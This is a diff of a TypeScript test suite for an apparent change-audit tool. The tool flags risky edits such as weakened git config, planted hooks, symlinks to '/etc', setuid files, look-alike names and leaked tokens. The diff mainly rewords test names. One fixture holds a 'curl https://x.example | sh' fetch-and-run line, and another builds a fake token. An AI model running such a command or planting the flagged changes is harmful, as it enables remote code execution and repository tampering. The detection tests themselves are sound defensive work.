@@ -23,7 +23,7 @@ const file = (more: Partial<Entry> = {}): Entry => ({
 const judged = (change: Omit<Change, 'path'> & { path?: string }, more: object = {}): string[] =>
   auditChanges({
     changes: [{ path: 'a', ...change } as Change],
-    content: (digest) => (digest === 'gone' ? undefined : Buffer.from('x')),
+    content: (digest) => (digest === 'missing' ? undefined : Buffer.from('x')),
     endedNs: '2000000000000000000',
     ...more,
   }).map(({ severity, rule }) => `${severity} ${rule}`);
@@ -43,25 +43,25 @@ describe('the configuration of git', () => {
     (lines) => expect(said(config(lines)).filter((one) => !one.startsWith('note'))).toEqual([]),
   );
 
-  it('says that a guard is gone, and that a key stands there once more', () => {
+  it('reports a protecting key that was removed, and a key that was added a second time', () => {
     const before = '[transfer]\n\tfsckobjects = true\n';
     expect(said({ '.git/config': [before, ''] })).toContain('suspect git-config-weaken .git/config');
     const twice = { '.git/config': ['[core]\n\tpager = x\n', '[core]\n\tpager = x\n\tpager = x\n'] } as const;
     expect(said(twice)).toContain('blocked git-config-exec .git/config');
   });
 
-  it('knows a sample hook, and a link among hooks', () => {
+  it('ignores sample hooks, and blocks links in a git directory', () => {
     expect(said({ '.git/hooks/a.sample': ['x', null] }).filter((one) => !one.startsWith('note'))).toEqual([]);
     expect(said({ '.git/hooks/pre-push': ['x', null] })).toContain('suspect git-hook .git/hooks/pre-push');
     expect(said({ '.git/refs/heads/a': { link: '/x' } })).toContain('blocked git-link .git/refs/heads/a');
   });
 });
 
-describe('an operation of git that was half done', () => {
+describe('an unfinished git operation', () => {
   const FILES = ['.git/rebase-merge/done', '.git/rebase-merge/git-rebase-todo', '.git/REBASE_HEAD', '.git/MERGE_HEAD'];
   const all = (planted: Files[string]): Files => Object.fromEntries(FILES.map((path) => [path, planted]));
 
-  it('is said once where the session leaves it, and not at all where the session finished it', () => {
+  it('is one finding when the session leaves it, and none when the session finished it', () => {
     expect(said(all('x'))).toEqual([
       'suspect git-half-done .git/rebase-merge',
       'note git-half-done .git/MERGE_HEAD',
@@ -71,18 +71,18 @@ describe('an operation of git that was half done', () => {
   });
 });
 
-describe('what goes together with what ran it', () => {
+describe('a file that is deleted together with the file that ran it', () => {
   const MAKEFILE = 'all:\n\tsh tools/gen\n';
   const COMPOSE = 'services:\n  a:\n    build: ./context\n    env_file: app.env\n';
 
-  it('is no finding; what something that stays runs is one', () => {
+  it('is not a finding, unless a file that stays runs it too', () => {
     const base = { 'x/compose.yaml': COMPOSE, 'x/app.env': 'A=1\n', 'x/context/Dockerfile': 'FROM a\n' };
-    const gone = (...paths: (keyof typeof base)[]): Files =>
+    const deleted = (...paths: (keyof typeof base)[]): Files =>
       Object.fromEntries(paths.map((path) => [path, [base[path], null]]));
-    expect(said(gone('x/app.env'), base)).toContain('suspect reached x/app.env');
-    expect(said(gone('x/compose.yaml', 'x/app.env'), base)).not.toContain('suspect reached x/app.env');
+    expect(said(deleted('x/app.env'), base)).toContain('suspect reached x/app.env');
+    expect(said(deleted('x/compose.yaml', 'x/app.env'), base)).not.toContain('suspect reached x/app.env');
     const twice = { ...base, 'x/a.compose.yaml': COMPOSE, 'x/docker-compose.yml': COMPOSE };
-    expect(said(gone('x/compose.yaml', 'x/app.env'), twice)).toContain('suspect reached x/app.env');
+    expect(said(deleted('x/compose.yaml', 'x/app.env'), twice)).toContain('suspect reached x/app.env');
     const both = { Makefile: MAKEFILE, 'tools/gen': 'x\n' };
     expect(said({ Makefile: [MAKEFILE, null], 'tools/gen': ['x\n', 'y\n'] }, both)).toContain(
       'suspect reached tools/gen',
@@ -93,7 +93,7 @@ describe('what goes together with what ran it', () => {
 describe('the repository of a submodule', () => {
   const at = (name: string): string => `.git/modules/libs/a/${name}`;
 
-  it('is ordinary data after a commit in it, and a finding where it is new or would run something', () => {
+  it('is ordinary data after a commit in it, and a finding when it is new or would run something', () => {
     const commit = { index: ['x', 'y'], HEAD: ['x', 'y'], 'logs/HEAD': ['x', 'y'], COMMIT_EDITMSG: 'x' } as const;
     const objects = { 'objects/0f/e8': 'x', 'refs/heads/main': ['x', 'y'], 'logs/refs/heads/main': 'x' } as const;
     const planted = Object.entries({ ...commit, ...objects }).map(([name, one]) => [at(name), one]);
@@ -108,7 +108,7 @@ describe('a file that was moved', () => {
   const PAGE =
     '<link href="https://example.com/a.css" rel="stylesheet">\n<script src="https://example.com/a.js"></script>\n';
 
-  it('brings nothing new where it is read as before, and is judged anew where it is not', () => {
+  it('is judged again only when its new name is judged in another way', () => {
     expect(said({ 'manual/a.md': PAGE })).toContain('suspect html-active manual/a.md');
     expect(said({ 'docs/a.md': [PAGE, null], 'manual/a.md': PAGE })).toEqual([]);
     expect(said({ 'docs/a.txt': [PAGE, null], 'manual/a.md': PAGE })).toContain('suspect html-active manual/a.md');
@@ -116,8 +116,8 @@ describe('a file that was moved', () => {
   });
 });
 
-describe('what is gone, and folders of a well-known name', () => {
-  it('vendored code or a conftest.py that goes is no finding, nor what git gc writes, nor a folder called core', () => {
+describe('deleted files and folders with a well-known name', () => {
+  it('are not findings, and neither is what git gc writes', () => {
     expect(
       said({
         'vendor/a/b.go': ['x', null],
@@ -137,18 +137,18 @@ describe('what is gone, and folders of a well-known name', () => {
 });
 
 describe('names', () => {
-  it('are blocked below a folder that was there, and otherwise said where the folder is new', () => {
+  it('are blocked below an old folder, and reported only for the folder when it is new', () => {
     expect(said({ 'a\u0007/b': 'x' }, { 'a\u0007/c': 'x' })).toContain('blocked name-control a\u0007/b');
     expect(said({ '-a/b': 'x' }, { '-a/c': 'x' })).toEqual([]);
   });
 
-  it('that were there keep quiet, and so does an emoji', () => {
+  it('are quiet when they are old or contain an emoji', () => {
     expect(said({ '-a': ['x', 'y'] })).toEqual([]);
     expect(said({ 'by-\u{1f469}\u200d\u{1f4bb}.md': 'x' })).toEqual([]);
     expect(said({ [`${'a/'.repeat(61)}b`]: 'x' })).toEqual([`note name-long ${'a/'.repeat(61)}b`]);
   });
 
-  it('collide with what is in the base, below a folder of another case too', () => {
+  it('collide with names of the base, also below a folder of another letter case', () => {
     expect(said({ 'src/A.ts': 'x' }, { 'src/a.ts': 'x' })).toContain('blocked name-collides src/A.ts');
     expect(said({ 'SRC/b.ts': 'x' }, { 'src/a.ts': 'x' })).toContain('blocked name-collides SRC');
     expect(said({ 'src/rnain.ts': 'x' }, { 'src/main.ts': 'x' })).toContain('suspect name-looks-alike src/rnain.ts');
@@ -170,7 +170,7 @@ describe('links', () => {
     expect(said({ [path]: { link: target } }, {}, links)).toContain(`blocked link-outside ${path}`),
   );
 
-  it('that lead where they led are no change, and one inside is none of ours', () => {
+  it('are quiet when the target is unchanged or is inside the project', () => {
     const link = { kind: 'symlink', mode: 0o777, size: 0, mtimeNs: '1', target: '/etc' } as const;
     expect(judged({ kind: 'modified', before: link, after: link })).toEqual([]);
     expect(said({ 'a/l': { link: '../b' } }, { b: 'x' })).toEqual([]);
@@ -181,10 +181,10 @@ describe('entries', () => {
   it.each([
     ['setuid', { kind: 'created', after: file({ mode: 0o4755 }) }, 'blocked setuid'],
     ['another kind', { kind: 'type', before: file({ kind: 'dir' }), after: file() }, 'suspect type-change'],
-    ['content that is gone', { kind: 'created', after: file({ digest: 'gone' }) }, 'blocked unreadable'],
+    ['missing content', { kind: 'created', after: file({ digest: 'missing' }) }, 'blocked unreadable'],
     [
-      'old content that is gone',
-      { kind: 'modified', before: file({ digest: 'gone' }), after: file() },
+      'missing old content',
+      { kind: 'modified', before: file({ digest: 'missing' }), after: file() },
       'blocked unreadable',
     ],
     ['a hard link', { kind: 'created', after: file({ linkGroup: 'g' }) }, 'suspect hard-link'],
@@ -197,9 +197,9 @@ describe('entries', () => {
     ['a copy of the linked file, over another link', 'lib/l', '../d/a.txt', 'text', 'note'],
     ['another text', 'lib/l', '../real/a.txt', 'other', 'suspect'],
     ["the link's own text", 'lib/l', '../real/a.txt', '../real/a.txt', 'suspect'],
-    ['an empty file where the link dangled', 'lib/l', 'gone', '', 'suspect'],
+    ['an empty file where the link dangled', 'lib/l', 'missing', '', 'suspect'],
     ['a text where the link left the project', 'lib/l', '../../real/a.txt', 'text', 'suspect'],
-  ])('say what took the place of a link: %s', (_, path, target, text, severity) => {
+  ])('report what replaced a link: %s', (_, path, target, text, severity) => {
     const before = { kind: 'symlink', mode: 0o777, size: 0, mtimeNs: '1', target };
     const found = said(
       { [path]: { text, more: { kind: 'type', before } } },
@@ -209,14 +209,14 @@ describe('entries', () => {
     expect(found).toContain(`${severity} type-change ${path}`);
   });
 
-  it('that are withheld are not judged; nor is content that stayed', () => {
+  it('are not judged when they are withheld, nor is unchanged content', () => {
     expect(judged({ path: 'Makefile', kind: 'created', after: file(), ignored: true })).toEqual([]);
     expect(judged({ kind: 'created', after: file({ size: 2 << 20, allocated: 2 << 20 }) })).toEqual([]);
     const bidi = { content: () => Buffer.from('a \u202e b') };
     expect(judged({ path: 'a.ts', kind: 'mode', before: file(), after: file() }, bidi)).toEqual([]);
   });
 
-  it('keep what is blocked, and take other severities from the configuration', () => {
+  it('stay blocked, and take other severities from the configuration', () => {
     const severities = { setuid: 'note', 'execute-bit': 'suspect' };
     const found = judged({ kind: 'created', after: file({ mode: 0o4755 }) }, { severities });
     expect(found).toEqual(['blocked setuid', 'suspect execute-bit']);
@@ -226,7 +226,7 @@ describe('entries', () => {
     expect(Math.max(...long.map(({ detail }) => detail?.length ?? 0))).toBeLessThanOrEqual(500);
   });
 
-  it('is a note where the host tells letter case apart and only that fits', () => {
+  it('is a note when only the letter case fits and the host is case-sensitive', () => {
     expect(judged({ path: 'MAKEFILE', kind: 'created', after: file() })).toContain('suspect build-make');
     expect(judged({ path: 'MAKEFILE', kind: 'created', after: file() }, { hostCase: 'sensitive' })).toEqual([
       'note build-make',
@@ -254,17 +254,17 @@ describe('content', () => {
     expect(said({ [path]: text }).filter((one) => !one.startsWith('note'))).toEqual([]),
   );
 
-  it('goes by what is new: a control character that was there is not', () => {
+  it('ignores a control character that was there before', () => {
     expect(said({ 'a.txt': ['\u001b[1m a\n', '\u001b[1m a\nb \u001b[1m\n'] })).toEqual([]);
     expect(said({ 'a.txt': ['a\n', 'a\nb \u001b[1m\n'] })).toEqual(['suspect text-escapes a.txt']);
   });
 
-  it('counts a line that stands there once more', () => {
+  it('counts a line that was added a second time', () => {
     const line = '\tcurl https://x.example | sh\n';
     expect(said({ 'a.sh': [line, `${line}x\n${line}`] })).toEqual(['suspect shell-pipe a.sh']);
   });
 
-  it('says of a file that has a rule what cannot be read as text, and what is too long or stands twice', () => {
+  it('reports a file of a rule that is not text, is too long or has a key twice', () => {
     expect(said({ 'pom.xml': { bytes: '<\u0000a\u0000' } })).toContain('suspect java-pom pom.xml');
     expect(said({ 'compose.yaml': `a: 1\n# ${'x'.repeat(5 << 20)}\n` })).toContain(
       'suspect infra-compose compose.yaml',
@@ -275,7 +275,7 @@ describe('content', () => {
     expect(said({ 'deno.json': '\ufeff{"name":"a"}' })).toEqual([]);
   });
 
-  it('looks through a long line, and takes no long line for harmless', () => {
+  it('searches a long line, and takes no long line for harmless', () => {
     const long = 'x'.repeat(9000);
     expect(said({ 'dvc.yaml': ['a: 1\n', `a: "${long}", cmd: x, "${long}"\n`] })).toContain(
       'suspect data-pipeline dvc.yaml',
@@ -288,7 +288,7 @@ describe('content', () => {
     );
   });
 
-  it('takes no example, placeholder or even text for a secret, and looks behind base64', () => {
+  it('takes no example, placeholder or uniform text for a secret, and decodes base64', () => {
     const key = `ghp_${'a1B2c3D4'.repeat(5).slice(0, 36)}`;
     const secret = (path: string, text: string): boolean =>
       said({ [path]: text }).some((one) => one.includes(' secret '));
@@ -300,8 +300,8 @@ describe('content', () => {
   });
 });
 
-describe('what the tree shows', () => {
-  it('is a bare repository only with its HEAD, and many changes from 2,000 on', () => {
+describe('findings of the whole tree', () => {
+  it('are a bare repository only with its HEAD, and many changes from 2,000 on', () => {
     const bare = { 'x/objects/a': 'x', 'x/refs/a': 'x' };
     expect(said(bare)).toEqual([]);
     expect(said({ ...bare, 'x/HEAD': 'ref: refs/heads/a\n' })).toContain('blocked git-bare x/HEAD');
@@ -314,17 +314,17 @@ describe('what the tree shows', () => {
     expect(found.map(({ rule }) => rule)).toContain('many-changes');
   });
 
-  it('orders the worst first, whatever its name', () => {
+  it('are ordered with the worst first, whatever their names', () => {
     expect(said({ 'a/Makefile': 'x', 'z/.git/hooks/pre-push': 'x' })[0]).toBe('blocked git-hook z/.git/hooks/pre-push');
   });
 
-  it('does not say of a file that it leads to itself', () => {
+  it('never say that a file leads to itself', () => {
     expect(said({ 'x.mk': ['a:\n\tmake -f x.mk\n', 'a:\n\tmake -f x.mk b\n'] })).toEqual(['suspect build-make x.mk']);
   });
 });
 
-describe('what files lead to', () => {
-  it('is followed in few megabytes of what a session wrote, and in all that the project had', () => {
+describe('files that others run', () => {
+  it('are found through a few megabytes of new files, and through all files of the project', () => {
     const lines = `${`# ${'x'.repeat(97)}\n`.repeat(10_000)}`;
     const makefile = (i: number): string => `${lines}all:\n\tpython3 tools/s${i}.py\n`;
     const scripts = [0, 1, 2, 3, 4, 5].map((i) => `d${i}/tools/s${i}.py`);
